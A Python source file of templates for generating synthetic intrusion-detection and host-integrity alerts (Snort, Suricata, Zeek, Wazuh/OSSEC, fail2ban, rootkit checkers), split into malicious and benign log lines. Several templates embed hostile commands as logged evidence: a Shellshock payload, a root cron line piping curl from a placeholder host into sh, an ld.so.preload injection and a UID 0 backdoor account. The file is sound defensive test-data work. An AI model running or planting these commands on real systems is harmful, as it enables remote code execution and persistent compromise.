"""Messages of intrusion sensors on the network and on hosts, and of file integrity checkers."""

from generator.families.network.product_story import catalogue

catalogue("network/product-network-sensors", ("snort|{msg}", "suricata|{msg}", "={us} [**] {msg}", "={iso} {msg}"), r"""
RX [1:{id}:3] ET EXPLOIT <<Apache Log4j RCE Attempt (http ldap) (CVE-2021-44228)|Possible VMware vCenter RCE|F5 TMUI RCE (CVE-2020-5902)|Ivanti Connect Secure Command Injection|MVPower DVR Shell UCE|Zyxel ZTP RCE>> [Classification: Attempted Administrator Privilege Gain] [Priority: 1] {TCP} {wan}:{port} -> {lan}:80
IX [1:{id}:6] ET EXPLOIT <<Possible ETERNALBLUE Probe MS17-010 (MSF style)|Zerologon NetrServerAuthenticate with 0x00 Client Credentials|Possible PrintNightmare RpcAddPrinterDriverEx|ETERNALBLUE MS17-010 Echo Response>> [Classification: A Network Trojan was Detected] [Priority: 1] {TCP} {lan}:{port} -> {lan2}:445
C2 [1:{id}:2] ET MALWARE <<Cobalt Strike Beacon Activity (GET)|Win32/Formbook CnC Activity (POST)|AgentTesla Exfil Via SMTP|Trickbot Checkin|Lumma Stealer CnC Host Checkin|RedLine Stealer TCP CnC Activity|Sliver HTTP Beacon>> [Classification: Malware Command and Control Activity Detected] [Priority: 1] {TCP} {lan}:{port} -> {wan}:80
MW [1:{id}:4] ET <<MALWARE Possible Windows executable sent when remote host claims to send a Text File|MALWARE Terse alphanumeric executable downloader high likelihood of being hostile|MALWARE VBS downloader fetching payload>> [Priority: 1] {TCP} {wan}:80 -> {lan}:{port}
PO [1:{id}:8] ET SCAN <<NMAP -sS window 1024|Potential VNC Scan 5900-5920|Suspicious inbound to MSSQL port 1433|Zmap User-Agent (Inbound)|Behavioral Unusually fast Terminal Server Traffic Potential Scan or Infection>> [Classification: Attempted Information Leak] [Priority: 2] {TCP} {any}:{port} -> {lan}:{port}
RE [1:{id}:5] ET SCAN <<Nikto Web App Scan in Progress|Sqlmap SQL Injection Scan|Nuclei scanner user-agent|WPScan User-Agent|DirBuster Web App Scan>> [Classification: Web Application Attack] [Priority: 1] {TCP} {wan}:{port} -> {lan}:443
SQ [1:{id}:9] ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT [Classification: Web Application Attack] [Priority: 1] {TCP} {wan}:{port} -> {lan}:80
PO [1:2001219:20] ET SCAN Potential SSH Scan [Classification: Attempted Information Leak] [Priority: 2] {TCP} {wan}:{port} -> {lan}:22
BF [1:2006546:9] ET SCAN LibSSH Based Frequent SSH Connections Likely BruteForce Attack [Priority: 2] {TCP} {wan}:{port} -> {lan}:22
CM [1:{id}:2] ET POLICY Cryptocurrency Miner Checkin (stratum login) [Classification: Potential Corporate Privacy Violation] [Priority: 1] {TCP} {lan}:{port} -> {wan}:3333
DT [1:{id}:1] ET MALWARE DNS Query with long TXT label, iodine or dnscat2 tunnel [Priority: 1] {UDP} {lan}:{port} -> {wan}:53
DO [1:{id}:3] ET DOS <<Possible NTP DDoS Inbound Frequent Un-Authed MON_LIST Requests IMPL 0x03|SYN flood outbound|Slowloris HTTP partial requests>> [Classification: Attempted Denial of Service] [Priority: 2] {UDP} {wan}:{port} -> {lan}:123
BF zeek>> notice.log: SSH::Password_Guessing {wan} appears to be guessing SSH passwords (seen in {many} connections).
PO zeek>> notice.log: Scan::Port_Scan {any} scanned at least {many} unique ports of host {lan} in 0m{n}s
PO zeek>> notice.log: Scan::Address_Scan {any} scanned at least {many} unique hosts on port 445/tcp in 1m{n}s
SQ zeek>> notice.log: HTTP::SQL_Injection_Attacker An SQL injection attacker was discovered! {wan}
BF zeek>> notice.log: FTP::Bruteforcing {wan} had {many} failed logins on 1 FTP server in 5m
MW zeek>> notice.log: TeamCymruMalwareHashRegistry::Match Malware Hash Registry Detection rate: {pct}% {file}.exe sha1 {sha} {lan}
C2 zeek>> intel.log: {lan} {wan} Intel::DOMAIN {ext} DNS::IN_REQUEST abuse.ch <<Feodo Tracker|ThreatFox>>
CT@T1003.006 zeek>> notice.log: ATTACK::Credential_Access DRSUAPI::DRSGetNCChanges from {lan}
LM@T1021.002 zeek>> notice.log: ATTACK::Lateral_Movement_and_Execution svcctl::CreateServiceW and ADMIN$ write {word}.exe {lan} -> {lan2}
AP#@T1557.002 arpwatch>> <<flip flop|reused old ethernet address>> {lan} {mac} ({mac2}) eth0
PO psad>> scan detected: {wan} -> {lan} tcp: [{n}-{port}] flags: SYN tcp pkts: {many} DL: {few}
PO portsentry>> attackalert: <<TCP SYN/Normal|UDP|TCP NULL|TCP FIN|XMAS>> scan from host: {wan}/{wan} to <<TCP|UDP>> port: {n}
+ portsentry>> attackalert: Host {wan} has been blocked via wrappers with string: "ALL: {wan}"
BF# fail2ban.filter>> INFO [<<sshd|postfix-sasl|dovecot|asterisk>>] Found {wan} - {plain}
BF fail2ban.actions>> NOTICE [recidive] Ban {wan}
BF crowdsec>> time="{iso}" level=info msg="(localhost/crowdsec) crowdsecurity/<<ssh-slow-bf|ssh-bf|windows-bf|mysql-bf>> by ip {wan} ({land}/AS{big}) : 4h ban on Ip {wan}, events {many}"
RE crowdsec>> msg="crowdsecurity/<<http-probing|http-crawl-non_statics|http-bad-user-agent|http-sensitive-files>> by ip {wan} : 4h ban on Ip {wan}, {many} events"
RX crowdsec>> msg="crowdsecurity/<<CVE-2021-41773|http-cve-2021-26086|CVE-2022-26134|jira_cve-2021-26086>> by ip {wan} : 4h ban on Ip {wan}"
""", r"""
BN [1:{id}:1] ET INFO <<Windows OS Submitting USB Metadata to Microsoft|Observed DNS Query to .cloud TLD|Packed Executable Download signed by vendor|TLS Handshake Failure|Session Traversal Utilities for NAT (STUN Binding Request)>> [Classification: Misc activity] [Priority: 3] {TCP} {lan}:{port} -> {wan}:443
BN [1:{id}:5] ET POLICY <<Dropbox.com Offsite File Backup in Use|curl User-Agent Outbound|Python-urllib Suspicious User Agent of updater|Outdated Flash Version|Spotify P2P Client|TeamViewer Keep-alive>> [Classification: Potential Corporate Privacy Violation] [Priority: 3] {TCP} {lan}:{port} -> {wan}:443
BN [1:22{n}04:2] SURICATA <<STREAM ESTABLISHED retransmission packet before last ack|HTTP unable to match response to request|STREAM bad window update|Applayer Detect protocol only one direction|TLS invalid record/traffic>> [Classification: Generic Protocol Command Decode] [Priority: 3] {TCP} {lan}:{port} -> {wan}:443
BN [129:12:1] Consecutive TCP small segments exceeding threshold [Classification: Potentially Bad Traffic] [Priority: 2] {TCP} {lan}:{port} -> {wan}:22
BN [1:{id}:3] ET DROP Spamhaus DROP Listed Traffic Inbound group {n} [Classification: Misc Attack] [Priority: 2] {TCP} {wan}:{port} -> {wan2}:{port}
BN [1:{id}:9] ET CINS Active Threat Intelligence Poor Reputation IP group {n} [Classification: Misc Attack] [Priority: 2] {TCP} {wan}:{port} -> {wan2}:{port}
MO [1:366:7] ICMP-INFO PING *NIX [Classification: Misc activity] [Priority: 3] {ICMP} {lan} -> {lan2}
UP snort>> Rules update: {big} rules loaded, {few} disabled; exploit-kit.rules changed
UP suricata>> <Notice> - rule reload complete
ER suricata>> <Error> -- [ERRCODE: SC_ERR_INVALID_SIGNATURE(39)] - error parsing signature "alert http any any -> any any (msg:"ET MALWARE ..." at line {big}
SY suricata>> <Notice> - Stats for 'eth1':  pkts: {id}, drop: {n} (0.{n}%), invalid chksum: {few}
SY snort>> Snort exiting, S5: Pruned {n} sessions from cache for memcap
NS zeek>> weird.log: {lan} {wan} <<bad_TCP_checksum|window_recision|data_before_established|dns_unmatched_reply|possible_split_routing>> F worker-{few}
NS zeek>> notice.log: CaptureLoss::Too_Much_Loss The capture loss script detected an estimated loss rate above {pct}.{n}%
NS zeek>> notice.log: SSL::Invalid_Server_Cert SSL certificate validation failed with (unable to get local issuer certificate) {lan} {wan}
NS zeek>> notice.log: SSL::Certificate_Expires_Soon certificate CN={ext} is going to expire in {n} days
NS zeek>> notice.log: PacketFilter::Dropped_Packets {n} packets dropped after filtering
NS arpwatch>> new station {lan} {mac} eth0
NS. arpwatch>> changed ethernet address {lan} {mac} ({mac2}) eth0
NS. arpwatch>> flip flop {lan} {mac} ({mac2}) bond0
NS arpwatch>> bogon 169.254.{n}.{n2} {mac} eth0
BN psad>> received {few} packets from {wan} (danger level 0)
SY psad>> psad: signature update not reachable; disk space ok
SY portsentry>> adminalert: PortSentry is now active and listening.
ER portsentry>> adminalert: ERROR: could not bind TCP socket: {n}. Attempting to continue
SY fail2ban.actions>> NOTICE [sshd] Unban {wan}
SY fail2ban.server>> INFO Jail 'sshd' started
BN. fail2ban.filter>> INFO [sshd] Found {wan} - {plain}
SY fail2ban.filter>> WARNING Unable to find a corresponding IP address for {ext}: [Errno -2] Name or service not known
ER fail2ban>> ERROR Failed during configuration: Have not found any log file for nginx-http-auth jail
SY crowdsec>> level=info msg="capi metrics: metrics sent successfully"
SY crowdsec>> level=info msg="deleted {n} expired decisions"
UP crowdsec>> level=info msg="crowdsecurity/http-cve : updated, scenarios up-to-date"
AD crowdsec>> level=info msg="manual 'ban' from '{adm}' for {wan} deleted"
ER crowdsec>> level=error msg="while getting community blocklist: context deadline exceeded"
""")

catalogue("network/product-host-sensors", ("ossec|{msg}", "wazuh|{msg}", "=** Alert {seconds}.{big}: {msg}", "={time} {msg}"), r"""
BF Alert Level: 10; Rule: 5712 - SSHD brute force trying to get access to the system.; Location: {host}->/var/log/auth.log; srcip: {wan}
BF Alert Level: 10; Rule: 5720 - Multiple SSHD authentication failures.; Location: {host}->/var/log/secure; srcip: {wan}; user: {adm}
BS Alert Level: 12; Rule: 40112 - Multiple authentication failures followed by a success.; Location: {host}; srcip: {wan}; user: {adm}
BF Alert Level: 10; Rule: 60204 - Multiple Windows logon failures.; Location: ({pc}) any->EventChannel; srcip: {any}; user: {adm}
PT@T1014 Alert Level: 7; Rule: 510 - Host-based anomaly detection event (rootcheck).; Trojaned version of file '/<<usr/bin/top|bin/ls|usr/sbin/lsof|bin/netstat>>' detected. Signature used: 'bash|file\.h|proc\.h|/dev/[^nu]|/tmp' (Generic).
PT@T1014 Alert Level: 7; Rule: 521 - Possible kernel level rootkit; Process '{big}' hidden from /proc. Possible kernel level rootkit.
PT@T1014 Alert Level: 7; Rule: 510 - Rootkit '<<Reptile|Adore|Diamorphine|Jynx2>>' detected by the presence of file '/<<reptile/reptile_cmd|dev/.udev/.{word}|usr/lib/.{word}.so>>'.
RX Alert Level: 15; Rule: 31166 - Shellshock attack attempt; Location: {host}->/var/log/nginx/access.log; srcip: {wan}; () { :;}; /bin/bash -c wget
SQ Alert Level: 10; Rule: 31152 - Multiple SQL injection attempts from same source ip.; srcip: {wan}; Location: {host}->/var/log/apache2/access.log
RE Alert Level: 10; Rule: 31151 - Multiple web server 400 error codes from same source ip.; srcip: {wan}
LC@T1070.001 Alert Level: 8; Rule: 593 - Microsoft Event log cleared (63103 - Windows audit log was cleared); Location: ({pc}) EventChannel; user: {user}
CT Alert Level: 15; Rule: 92900 - Lsass process was accessed by {word}.exe with read permissions, possible credential dump; Location: ({pc}) EventChannel
MW Alert Level: 12; Rule: 87105 - VirusTotal: Alert - {odd} - {n} engines detected this file; Location: ({pc}) syscheck
SS Alert Level: 12; Rule: 92057 - Powershell.exe spawned a powershell process which executed a base64 encoded command from {prog}; Location: ({pc})
PT Alert Level: 8; Rule: 5902 - New user added to the system: name={word}, UID=0, GID=0, home=/root, shell=/bin/bash; Location: {host}->/var/log/auth.log
PT@T1053.003 Alert Level: 8; Rule: 554 - File added to the system '/etc/cron.d/{word}': * * * * * root curl -s http://{wan}/{word}|sh; Location: {host}->syscheck
PT@T1574.006 Alert Level: 7; Rule: 550 - Integrity checksum changed. File '/etc/ld.so.preload' added, content /usr/local/lib/{word}.so; {host}->syscheck
PT@T1098.004 tripwire>> Rule Name: Root config files Severity Level: 100 Modified: /root/.ssh/authorized_keys, Added: /root/.ssh/.{word}
PT@T1014 samhain>> CRIT : msg=<POLICY KERNEL>, system call sys_getdents64 modified, entry not in module table
PT@T1014 rkhunter>> Warning: <<Hidden processes found|Checking for possible rootkit strings [ Warning ], suckit found>>
PT@T1014 chkrootkit>> <<Checking `ifconfig'... INFECTED|Checking `lkm'... You have {n} process hidden for readdir command, possible LKM Trojan installed|Searching for Suckit rootkit... Warning: /sbin/init INFECTED|Checking `bindshell'... INFECTED PORTS: (  31337)>>
KD@T1003.006 Alert Level: 12; Rule: 110001 - Directory Service Access. Possible DCSync attack by {user} from {lan}; Location: ({pc}) EventChannel
KD Alert Level: 12; Rule: 110002 - Possible Kerberoasting: {many} TGS requests with RC4 by {user} within {few} s; Location: ({pc})
""", r"""
SY Alert Level: 3; Rule: 502 - Ossec server started.; Location: {host}->ossec-monitord
SY Alert Level: 3; Rule: 503 - Ossec agent started.; Location: ({pc}) {lan}->ossec
SY Alert Level: 3; Rule: 504 - Ossec agent disconnected.; Location: ({pc}) any->ossec-monitord
SY Alert Level: 7; Rule: 531 - Partition usage reached 100% (disk space monitor).; Location: {host}->df -P
SY Alert Level: 7; Rule: 533 - Listened ports status (netstat) changed (new port opened or closed).; Location: {host}->netstat
UP Alert Level: 7; Rule: 550 - Integrity checksum changed.; Location: {host}->syscheck; File '/usr/<<bin/curl|bin/openssl|bin/perl|bin/vim.basic|sbin/sshd|bin/passwd|bin/ps|bin/sudo>>' modified
UP Alert Level: 7; Rule: 2902 - New dpkg (Debian Package) installed.; Location: {host}->/var/log/dpkg.log
AD Alert Level: 7; Rule: 550 - Integrity checksum changed. File '/etc/<<hosts|resolv.conf|postfix/main.cf|nginx/nginx.conf|ssh/sshd_config>>' modified; Location: {host}->syscheck
AE Alert Level: 5; Rule: 554 - File added to the system '/etc/letsencrypt/renewal/{ext}.conf'; Location: {host}->syscheck
LO Alert Level: 3; Rule: 5715 - SSHD authentication success.; srcip: {lan}; user: {adm}; Location: {host}->/var/log/auth.log
LO Alert Level: 3; Rule: 5501 - Login session opened.; Location: {host}->/var/log/secure; user: {user}
LO Alert Level: 3; Rule: 60106 - Windows logon success.; Location: ({pc}) EventChannel; user: {user}
MP. Alert Level: 5; Rule: 5716 - SSHD authentication failed.; srcip: {lan}; user: {user}; Location: {host}->/var/log/auth.log
MP. Alert Level: 5; Rule: 60122 - Logon Failure - Unknown user or bad password; Location: ({pc}) EventChannel; user: {user}
MP. Alert Level: 5; Rule: 5401 - Failed attempt to run sudo; user: {user}; Location: {host}->/var/log/auth.log
BN Alert Level: 5; Rule: 5710 - Attempt to login using a non-existent user; srcip: {wan}; Location: {host}->/var/log/auth.log
AD Alert Level: 3; Rule: 5402 - Successful sudo to ROOT executed; user: {adm}; COMMAND=/usr/bin/systemctl restart nginx; Location: {host}
AD Alert Level: 8; Rule: 5902 - New user added to the system: name={user}, UID=10{n}, GID=10{n}, home=/home/{user}; Location: {host}
ER Alert Level: 5; Rule: 31101 - Web server 400 error code.; srcip: {any}; Location: {host}->/var/log/nginx/access.log
ER Alert Level: 2; Rule: 1002 - Unknown problem somewhere in the system.; Location: {host}->/var/log/syslog; error: {word} failed
SC Alert Level: 7; Rule: 19007 - CIS Benchmark: Ensure SSH root login is disabled: failed; Location: ({host})->sca
SC Alert Level: 3; Rule: 19004 - SCA summary: CIS Benchmark score less than {pct}%; Location: ({pc})->sca
SC Alert Level: 10; Rule: 23505 - CVE-2024-{big} affects <<openssl|curl|Google Chrome|python3>>; Location: ({host})->vulnerability-detector
SC Alert Level: 3; Rule: 87104 - VirusTotal: Alert - {app} - No positives found; Location: ({pc}) syscheck
SY Alert Level: 7; Rule: 510 - Host-based anomaly detection event (rootcheck).; File '/dev/shm/PostgreSQL.{id}' present on /dev. Possible hidden file.
SC aide>> AIDE found NO differences between database and filesystem. Looks okay!!
UP aide>> changed: /usr/bin/<<git|ssh|python3.11|sudo|top|find>> : SHA256 old {sha} new {sha}
SC tripwire>> Total objects scanned: {big} Total violations found: 0
UP tripwire>> Rule Name: <<System boot changes Severity Level: 100 Modified: /boot/vmlinuz-{ver}|OS executables and libraries Severity Level: 100 Modified: /usr/sbin/cron, /bin/login>>
SY samhain>> MARK   :  [{time}] msg=<--- TIMESTAMP --->
SY samhain>> WARN : msg=<POLICY [LogFiles] growing>, path=</var/log/messages>, log rotated
SC rkhunter>> <<System checks summary: Rootkits checked : {many} Possible rootkits: 0|Info: No warnings were found while checking the system|Warning: The SSH and rkhunter configuration options should be the same>>
UP rkhunter>> Please inspect this machine: file properties of {n} files changed by package update, run --propupd
SC chkrootkit>> <<Checking `ls'... not infected|Searching for suspicious files and dirs: /usr/lib/python3/dist-packages/.keep (package)|Checking `sniffer'... eth0: PACKET SNIFFER(/usr/sbin/dhclient[{n}])|nothing found>>
ER wazuh-agentd>> ERROR: (1216): Unable to connect to '[{lan}]:1514/tcp': 'Connection refused'
SY wazuh-modulesd>> INFO: (9801): Starting vulnerability scan.
""")
